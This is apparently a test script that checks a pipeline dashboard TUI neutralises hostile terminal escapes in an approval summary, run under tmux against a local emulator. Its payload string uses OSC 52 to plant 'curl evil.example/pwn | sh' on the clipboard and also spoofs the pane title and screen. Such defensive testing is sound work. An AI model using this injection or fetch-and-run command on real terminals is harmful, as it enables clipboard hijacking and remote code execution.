"""The 2026-12-05 report, item 1, under a real terminal: tmux (3.x, ``set-clipboard on``) and the emulator.

A manual approval is rejected with a summary that writes the clipboard (OSC 52: ``curl evil.example/pwn | sh``),
sets the pane title (OSC 0: ``APPROVAL-TITLE``), wipes the screen and draws ``FAKE`` at row 5, column 5. First the
same bytes are printed with printf (the control: tmux acts on them), then ``pipeline-tui --pipeline gated`` opens
the dashboard on the failed run (no key pressed). Exit 0 when the dashboard left the clipboard, the title and the
screen alone.

    python scripts/tmux_hostile_text.py
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path

SUMMARY = "LGTM\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcHduIHwgc2g=\x1b\\\x1b]0;APPROVAL-TITLE\x1b\\\x1b[2J\x1b[5;5HFAKE"
TMUX = ["tmux", "-L", "pipeline-tui-hostile", "-f", os.devnull]
ENV = {"AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing", "AWS_DEFAULT_REGION": "us-east-1"}


def until(what: str, check: Callable[[], object], seconds: float = 30) -> object:
    deadline = time.monotonic() + seconds
    while not (value := check()):
        if time.monotonic() > deadline:
            sys.exit(f"gave up waiting for {what}")
        time.sleep(0.2)
    return value


def tmux(*args: str) -> str:
    return subprocess.run([*TMUX, *args], capture_output=True, text=True).stdout


def seed(url: str) -> None:
    import boto3

    from tui.emulator.seed import seed_pipeline

    def client(service: str) -> object:
        return boto3.client(service, region_name="us-east-1", endpoint_url=url, **_keys())

    seed_pipeline(client, name="gated")
    cp = client("codepipeline")
    definition = cp.get_pipeline(name="gated")["pipeline"]  # type: ignore[attr-defined]
    manual = {"category": "Approval", "owner": "AWS", "provider": "Manual", "version": "1"}
    definition["stages"].insert(1, {"name": "Approve", "actions": [{"name": "Gate", "actionTypeId": manual}]})
    cp.update_pipeline(pipeline=definition)  # type: ignore[attr-defined]
    cp.start_pipeline_execution(name="gated")  # type: ignore[attr-defined]

    def token() -> str | None:
        for stage in cp.get_pipeline_state(name="gated")["stageStates"]:  # type: ignore[attr-defined]
            for action in stage.get("actionStates", []):
                latest = action.get("latestExecution") or {}
                if action["actionName"] == "Gate" and latest.get("status") == "InProgress" and latest.get("token"):
                    return str(latest["token"])
        return None

    result = {"summary": SUMMARY, "status": "Rejected"}
    cp.put_approval_result(  # type: ignore[attr-defined]
        pipelineName="gated", stageName="Approve", actionName="Gate", token=until("the approval", token), result=result
    )


def _keys() -> dict[str, str]:
    return {"aws_access_key_id": "testing", "aws_secret_access_key": "testing"}


def effects(session: str) -> tuple[str, str, list[str]]:
    """The clipboard tmux holds, the pane's title, the pane's rows."""
    buffer = subprocess.run([*TMUX, "show-buffer"], capture_output=True, text=True).stdout
    title = tmux("display", "-p", "-t", session, "#{pane_title}").strip()
    return buffer, title, tmux("capture-pane", "-p", "-t", session).splitlines()


def new_session(name: str, command: str) -> None:
    tmux("new-session", "-d", "-s", name, "-x", "140", "-y", "40")
    tmux("set", "-g", "set-clipboard", "on")
    tmux("set", "-g", "allow-rename", "on")
    tmux("send-keys", "-t", name, command, "Enter")


def main() -> int:
    if shutil.which("tmux") is None:
        print("tmux is not installed: nothing checked", file=sys.stderr)
        return 2
    app = Path(sys.executable).with_name("pipeline-tui")
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    url = f"http://127.0.0.1:{port}"
    env = {**os.environ, **ENV}
    emulator = subprocess.Popen(
        [str(app), "emulator", "--port", str(port), "--step-seconds", "0.2"], env=env, stdout=subprocess.DEVNULL
    )
    try:
        until("the emulator", lambda: _healthy(url))
        seed(url)
        tmux("kill-server")
        printf = SUMMARY.replace("\\", "\\\\").replace("\x1b", "\\033")  # printf's own escapes
        new_session("control", f"printf '{printf}'; sleep 60")
        until("the control's effects", lambda: effects("control")[0])
        buffer, title, rows = effects("control")
        print(f"control (printf): clipboard {buffer!r}, title {title!r}, row 5 {rows[4]!r}")
        tmux("kill-server")
        config = Path(os.environ.get("TMPDIR", "/tmp")) / "pipeline-tui-hostile-none.toml"
        keys = " ".join(f"{k}={v}" for k, v in ENV.items())
        command = f"{keys} PIPELINE_TUI_CONFIG={config} {app} --endpoint-url {url} --pipeline gated"
        new_session("dashboard", command)
        # the failed action is selected on open: its details show the summary, cleaned
        until("the summary on the dashboard", lambda: any("LGTMFAKE" in row for row in effects("dashboard")[2]))
        buffer, title, rows = effects("dashboard")
        tmux("send-keys", "-t", "dashboard", "q")
        print(f"dashboard: clipboard {buffer!r}, title {title!r}")
        print("\n".join(rows[:12]))
        touched = "evil" in buffer or title == "APPROVAL-TITLE" or rows[4].startswith("    FAKE")
        print("FAIL: the dashboard passed the escapes to the terminal" if touched else "OK: untouched")
        return 1 if touched else 0
    finally:
        tmux("kill-server")
        emulator.terminate()
        emulator.wait(timeout=10)


def _healthy(url: str) -> bool:
    try:
        with urllib.request.urlopen(f"{url}/_pipeline_tui/health", timeout=2):
            return True
    except OSError:
        return False


if __name__ == "__main__":
    sys.exit(main())
